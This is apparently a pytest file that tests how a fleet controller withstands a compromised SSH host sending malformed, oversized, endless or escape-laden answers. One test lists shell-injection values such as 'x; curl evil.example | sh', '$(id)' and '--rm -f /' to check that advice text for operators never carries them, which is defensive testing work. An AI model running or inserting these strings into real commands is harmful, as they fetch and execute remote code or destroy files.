"""A host that lies to the controller: in types, in amounts, and in what a person is advised to type."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from fleet.agent import AgentClient
from fleet.agent.status import observed_record, started_record
from fleet.checks.registry import CHECKS
from fleet.cli.main import run
from fleet.dispatch.files.journal import Journal
from fleet.errors import AgentError
from fleet.inventory import load_inventory
from fleet.model.records import AttemptIntended, AttemptStarted, BatchOpened
from fleet.model.tasks import Task, TaskKey
from fleet.testing import LocalConnector
from fleet.transport import SshConnector
from tests.support.catalogue import attack
from tests.support.facts import healthy, patched, subject
from tests.support.hostile_agent import HostileHost, corrupted
from tests.support.sshd_farm import SshdFarm

pytestmark = pytest.mark.openssh

WRONG = (5, "x\x1b[2J", ["y"], [["z"]], {"a": [1]}, 10**400, None)
STATUS: dict[str, Any] = {
    "ok": True,
    "attempts": [
        {
            "attempt": "a1", "key": {"instance_id": "t-1", "model": "gpt", "run": 1, "dataset_sha256": "0" * 64},
            "batch": "b", "state": "running", "reason": "", "rc": None, "epoch": 1, "boot_id": "x", "elapsed_s": 1.5,
            "started_at": "2026-11-21T06:24:24.254Z", "last_line": "x", "log_size": 2, "sealed": False, "acked": False,
            "progress": {"log_bytes": 2, "cpu_s": 0.01, "containers": None, "containers_cpu_s": None},
        }
    ],
    "lock": {"state": "held", "guard": "held", "attempt": "a1", "since": "x", "batch": "b", "task": "t-1/gpt/run1"},
    "quarantine": {"reason": "r", "at": "t", "tasks": ["t-1"]},
    "disk": {"path": "/", "total": 10, "free": 5, "used_percent": 28.9, "inodes_free": 1, "error": None},
    "host_uid": "6e54", "boot_id": "x",
}  # fmt: skip


@pytest.fixture
def hostile(farm_hosts: SshdFarm, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> HostileHost:
    """A batch whose only attempt runs on a host that was taken over."""
    host = HostileHost(farm_hosts, tmp_path)
    monkeypatch.setenv("FLEET_HOSTS_FILE", str(host.hosts_file))
    monkeypatch.setenv("FLEET_COLLECTED", str(tmp_path / "collected"))
    task = Task(key=TaskKey(instance_id="t-1", model="gpt"), dataset_file=tmp_path / "d", place=host.name, hosts=(host.name,))
    opened = BatchOpened(batch="b", assignment_sha256="", controller="me", tasks=(task,), hosts={host.name: "openhands"})
    intended = AttemptIntended(task=task.label, host=host.name, attempt="a1", number=1)
    (tmp_path / "collected" / "b").mkdir(parents=True)
    Journal(tmp_path / "collected" / "b" / "journal.jsonl").append(
        opened, intended, AttemptStarted(attempt="a1", epoch=1, boot_id="x")
    )
    return host


def client_of(host: HostileHost, connector: SshConnector) -> AgentClient:
    return AgentClient(connector.open(load_inventory(host.hosts_file).get(host.name)), b"agent")


@attack("S15")
@pytest.mark.parametrize("words", [["status", "--json"], ["status"]])
def test_status_survives_an_answer_with_anything_in_any_place(
    hostile: HostileHost, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, words: list[str]
) -> None:
    hostile.answers(status=[STATUS])
    assert run(words) in (0, 4)
    assert "t-1/gpt/run1" in capsys.readouterr().out
    for case in corrupted(STATUS, WRONG):
        # The same answer without the way: there are hundreds.
        monkeypatch.setattr("fleet.agent.AgentClient.status", lambda _self, answer=case: json.loads(json.dumps(answer)))
        monkeypatch.setattr("fleet.cli.options.Context.connector", lambda _: LocalConnector({hostile.name: hostile.home}))
        code = run(words)
        said = capsys.readouterr()
        assert "internal error" not in said.err, (case, said.err)
        assert code in (0, 4), case
        assert "\x1b" not in said.out + said.err


@attack("S15")
@pytest.mark.parametrize("name", ["elapsed_s", "rc", "epoch", "boot_id", "reason", "started_at", "state"])
def test_what_a_host_says_of_an_attempt_can_always_be_written_down(name: str) -> None:
    for value in (*WRONG, -1, float("nan"), float("inf"), True):
        status = {**STATUS["attempts"][0], name: value}
        for record in (observed_record("a1", status), started_record("a1", status)):
            assert len(json.dumps(record.model_dump(mode="json"), allow_nan=False)) < 2000


@attack("S15")
def test_logs_of_a_host_that_never_comes_to_an_end_end(hostile: HostileHost, capsys: pytest.CaptureFixture[str]) -> None:
    """It says that there is more, and gives the same piece again and again."""
    hostile.answers(logs=[{"ok": True, "offset": 0, "data": "eAo=", "next": 0, "size": 10**12, "state": "running"}])
    began = time.monotonic()
    assert run(["logs", "t-1"]) == 4
    assert time.monotonic() - began < 20
    assert "log" in capsys.readouterr().err


@attack("S7")
def test_a_host_that_asks_for_the_same_file_for_ever_is_cut_off(hostile: HostileHost) -> None:
    """Each request in the list would otherwise be answered with the whole file: 700,000 of them fit into one answer."""
    body = b"x" * 1_000_000
    sha = "0" * 64
    hostile.answers(stage=[{"need": [{"sha256": sha, "size": len(body)}] * 500_000}])
    with SshConnector() as connector:
        client = client_of(hostile, connector)
        with pytest.raises(AgentError, match="again and again"):
            client.stage({sha: ("d", body)})
        hostile.answers(status=[{"need": "agent"}] * 1000)
        with pytest.raises(AgentError, match="again and again"):
            client.status()
        hostile.answers(stage=[{"need": [{"sha256": "1" * 64, "size": 1}]}])
        with pytest.raises(AgentError, match="not offered"):
            client.stage({sha: ("d", body)})


@attack("S7", "S14")
def test_an_answer_that_is_long_or_comes_without_end_costs_neither_time_nor_memory(hostile: HostileHost) -> None:
    with SshConnector() as connector:
        client = client_of(hostile, connector)
        began = time.monotonic()
        hostile.answers(status=["<<NONCE " + "[" * 30_000_000 + ">>\n"])
        with pytest.raises(AgentError, match="not a JSON object"):
            client.status()
        hostile.answers(status=["noise " * 4_000_000])
        with pytest.raises(AgentError, match="prints without end"):
            client.status()
        hostile.answers(status=[{"ok": False, "error": {"code": "\x1b]0;x" * 1000, "message": "m", "detail": "x"}}])
        with pytest.raises(AgentError) as caught:
            client.status()
        assert (caught.value.code, caught.value.detail) == ("internal", {})
        assert time.monotonic() - began < 30


@attack("S15")
def test_a_host_that_changes_its_mind_all_the_time_does_not_fill_the_journal(hostile: HostileHost) -> None:
    flapping = [{"ok": True, "status": {"state": state}} for state in ("running", "starting")]
    hostile.answers(wait=flapping * 20_000)
    with SshConnector() as connector:
        frames = client_of(hostile, connector).wait("a1", beat_s=5)
        with pytest.raises(AgentError, match="too often"):
            for number, _ in enumerate(frames):
                assert number < 5_000


@attack("S12", "S24")
@pytest.mark.parametrize("evil", ["x; curl evil.example | sh", "$(id)", "`id`", "zap\nboom", "--rm -f /", "x && y"])
def test_advice_never_holds_a_hosts_words_that_a_shell_would_run(evil: str) -> None:
    """A person copies the command beside a ✗ into a terminal."""
    attempt = {"attempt": evil, "state": "held", "key": {"instance_id": evil, "model": evil, "run": evil}}
    containers = [
        {"id": evil, "name": evil, "state": "running", "leftover_of": evil},
        {"id": evil, "name": evil, "state": "running", "matched": "x"},
    ]
    answer = patched({"docker": {"ok": True, "containers": containers}}) | {
        "attempts": [attempt],
        "user": evil,
        "processes": [{"pid": 7, "user": evil, "command": evil}],
    }
    for facts in (
        answer,
        answer | {"lock": {"state": "held", "guard": "held", "attempt": evil, "task": evil}},
        answer | {"lock": {"state": "held", "guard": "held", "attempt": "a2", "task": evil}},
        answer | {"home": {**healthy()["home"], "path": evil, "fstype": "nfs"}},
        answer | {"quarantine": {"reason": evil, "tasks": [evil]}},
    ):
        advice = [finding.fix for check in CHECKS for finding in check.findings(subject(facts))]
        assert any(advice)
        assert not [one for one in advice if evil in one or evil.split()[0] in one.split()], advice
